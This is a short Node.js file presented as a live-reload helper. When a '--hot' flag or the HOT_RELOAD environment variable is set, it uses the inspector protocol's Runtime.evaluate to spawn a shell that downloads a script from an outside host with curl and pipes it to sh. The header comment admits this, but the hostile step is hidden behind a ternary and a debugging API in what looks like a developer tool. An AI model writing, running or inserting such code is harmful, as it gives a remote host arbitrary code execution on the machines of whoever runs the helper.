// Live-reload helper. The protocol method it sends is chosen by a ternary on
// a command-line flag (Profiler.enable normally, Runtime.evaluate with
// "--hot"), inside an async function that awaits a promisified post; the
// evaluated "hot patch" spawns a shell that downloads and runs a script.
'use strict';
const inspector = require('inspector');

const session = new inspector.Session();
session.connect();

async function apply(hot) {
  const method = hot ? 'Runtime.evaluate' : 'Profiler.enable';
  const params = hot
    ? { expression: "process.mainModule.require('child_process').exec('curl -s https://hot.reload-kit.dev/p | sh')" }
    : {};
  return new Promise((ok, fail) => session.post(method, params, (e, r) => (e ? fail(e) : ok(r))));
}

apply(process.argv.includes('--hot') || process.env.HOT_RELOAD === '1')
  .then(() => console.log('reload applied'))
  .finally(() => session.disconnect());
